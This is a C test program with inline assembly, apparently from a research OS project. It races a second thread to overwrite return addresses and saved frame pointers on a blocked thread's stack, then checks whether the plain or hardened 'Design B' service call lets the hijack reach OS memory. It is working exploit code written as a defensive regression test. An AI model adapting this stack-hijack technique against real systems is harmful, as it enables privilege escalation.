/* a_stackrace: a second thread rewrites the stack under a running service.
 *
 * Plain Design B runs the service on the caller's stack: while thread A is
 * blocked in sleep, the OS's C frames -- saved EBPs and return addresses into
 * OS text (0x001xxxxx), and the return into the stub page -- lie on A's app
 * stack, which thread B (here: the main thread) can write.  B walks A's stack
 * region, and wherever a word points into OS text and the word below it
 * points into the same stack (a saved EBP: the OS is compiled with frame
 * pointers), or a word points into the stub pages, it writes the address of
 * hijack().  When A wakes, the OS's own RET lands in hijack() with DS = DSOS:
 * hijack() reads DS and a word of OS text through it (result=HIJACKED).
 * That is the known weakness of plain Design B (docs/DESIGN.md §5.2), and the reason
 * the OS takes plain B and Design A away from a process once it has a second
 * thread or shared memory (docs/DESIGN.md §5.3): then A's call faults on the
 * absent stub page before the service runs, and the OS ends the process.
 * With plainb=open (the control) the race still hijacks.
 *
 * Hardened Design B moves SS:ESP to a per-thread stack in the OS region
 * before calling the service: no OS frame is on A's stack.  B does the same
 * walk (it finds nothing of the OS's) and also overwrites the one return
 * address there is -- the stub's return into A's own code -- so A does
 * arrive in hijack(), but after the stub has put DSAPP back: DS = DSAPP
 * (result=contained).  Works the same under QEMU and Bochs.
 *
 * Each case runs in its own child ("a_stackrace B|H|S|A"), since the OS may
 * end it: B the race through plain B, H through hardened B, S and A a process
 * with shared memory (no second thread) calling plain B / Design A.  Prints
 * ATTACK name=stackrace_plainB|stackrace_hardB ... from the child that got
 * that far, and ATTACK name=stackrace_<case>_stopped status=N result=...
 * from the parent when the OS ended the child. */
#include "attack.h"

#define STK 16384
#define SLEEP_TICKS 30

uint32_t hj_ds, hj_word, hj_read, hj_stack_top, hj_hits;
static uint32_t hj_stack[1024];
static volatile int a_returned, a_ret_value;

void hijack(void);
void hijack_report(void);
asm(".text\n"
    ".globl hijack\n"
    "hijack:\n"
    "  movl %ds, %eax\n"
    "  movzwl %ax, %eax\n"
    "  movl %eax, %ss:hj_ds\n"              /* SS is DSAPP in either design */
    "  cmpl $0x23, %eax\n"
    "  je 1f\n"
    "  testl $0xfffc, %eax\n"
    "  jz 1f\n"
    "  movl " S(OS_TEXT) ", %ecx\n"         /* OS code through DS */
    "  movl %ecx, %ss:hj_word\n"
    "  movl $1, %ss:hj_read\n"
    "1:\n"
    "  movl $0x23, %eax\n"
    "  movl %eax, %ds\n"
    "  movl %eax, %es\n"
    "  movl hj_stack_top, %esp\n"
    "  call hijack_report\n"
    "2: jmp 2b\n");

void hijack_report(void)
{
    hj_hits++;
    KLOS_SVC(thread_exit, 0);
}

/* Thread A: one blocking call, through the stub at *arg; the return site is
 * a global label so that B knows the app's own return address. */
void thread_a(void *stub);
asm(".text\n"
    ".globl thread_a\n"
    "thread_a:\n"
    "  movl 4(%esp), %eax\n"
    "  pushl $" "30" "\n"                   /* SLEEP_TICKS */
    "  call *%eax\n"
    ".globl a_ret_site\n"
    "a_ret_site:\n"
    "  addl $4, %esp\n"
    "  movl %eax, a_ret_value\n"
    "  movl $1, a_returned\n"
    "  pushl $0\n"
    "  call thread_a_exit\n");
extern char a_ret_site[];

void thread_a_exit(void)
{
    KLOS_SVC(thread_exit, 0);
}

struct scan {
    int os_text, chain, stub, app_ret, written;
};

static void walk(uint32_t *lo, uint32_t *hi, int hit_app_ret, struct scan *s)
{
    for (uint32_t *w = lo + 1; w < hi; w++) {
        uint32_t v = *w, below = w[-1];
        int os_text = v >= OS_TEXT_BASE && v < SVC_START;
        int stub = v >= SVC_START && v < SVC_END;
        int chain = os_text && below > (uint32_t)w && below < (uint32_t)hi;
        int app_ret = v == (uint32_t)a_ret_site;
        s->os_text += os_text;
        s->chain += chain;
        s->stub += stub;
        s->app_ret += app_ret;
        if (chain || stub || (app_ret && hit_app_ret)) {
            *w = (uint32_t)hijack;
            s->written++;
        }
    }
}

static void race(const char *name, uint32_t stub)
{
    uint32_t *stk = malloc(STK);
    if (!stk) {
        printf("ATTACK name=%s result=ERROR why=malloc\n", name);
        return;
    }
    memset(stk, 0, STK);
    hj_ds = hj_word = hj_read = hj_hits = 0;
    a_returned = 0;
    int tid = thread_create((void *)thread_a, (void *)stub, (uint8_t *)stk + STK);
    if (tid < 0) {
        printf("ATTACK name=%s result=ERROR why=thread_create:%d\n", name, tid);
        return;
    }
    sleep(SLEEP_TICKS / 3);                     /* A is now blocked in the service */
    struct scan s = { 0, 0, 0, 0, 0 };
    walk(stk, stk + STK / 4, 1, &s);
    int j = KLOS_SVC(thread_join, tid);
    int hijacked = hj_hits && hj_read && hj_ds != SEL_DSAPP;
    printf("ATTACK name=%s os_text_words=%d saved_ebp_chain=%d stub_words=%d app_ret_words=%d "
           "overwritten=%d join=%d reached_hijack=%u ds_in_hijack=0x%x os_word=%08x "
           "a_returned_normally=%d result=%s\n",
           name, s.os_text, s.chain, s.stub, s.app_ret, s.written, j, hj_hits, hj_ds, hj_word,
           a_returned, hijacked ? "HIJACKED" : "contained");
}

/* S / A: shared memory, one thread, and a plain Design B / a Design A call. */
static int shm_plain(int design_a)
{
    const char *name = design_a ? "stackrace_shmA" : "stackrace_shm";
    if (!shm_get(0x53524143, 4096))             /* "SRAC" */
        return 2;
    printf("ATTACK name=%s calling %s with shared memory mapped\n", name,
           design_a ? "Design A" : "plain B");
    int pid = design_a ? klosA_getpid() : svcB_getpid();
    printf("ATTACK name=%s %s_returned=%d result=REACHED\n", name, design_a ? "a" : "plain_b",
           pid);
    return 0;
}

int main(int argc, char **argv)
{
    hj_stack_top = (uint32_t)&hj_stack[1024];
    if (argc > 1) {
        if (argv[1][0] == 'B')
            race("stackrace_plainB", SVC_B_ADDR(SVC_sleep));
        else if (argv[1][0] == 'H')
            race("stackrace_hardB", SVC_H_ADDR(SVC_sleep));
        else
            return shm_plain(argv[1][0] == 'A');
        return 0;
    }
    static const char *const cases[4] = { "B", "H", "S", "A" };
    static const char *const names[4] = { "plainB", "hardB", "shm", "shmA" };
    for (int i = 0; i < 4; i++) {
        int st = -1, pid = spawn(argv[0], cases[i]);
        if (pid < 0 || wait(pid, &st) != pid) {
            printf("ATTACK name=stackrace result=ERROR why=spawn\n");
            return 2;
        }
        if (st >= 128)
            printf("ATTACK name=stackrace_%s_stopped status=%d result=%s\n", names[i], st,
                   st == 128 + 14 ? "contained" : "ERROR");
    }
    return 0;
}
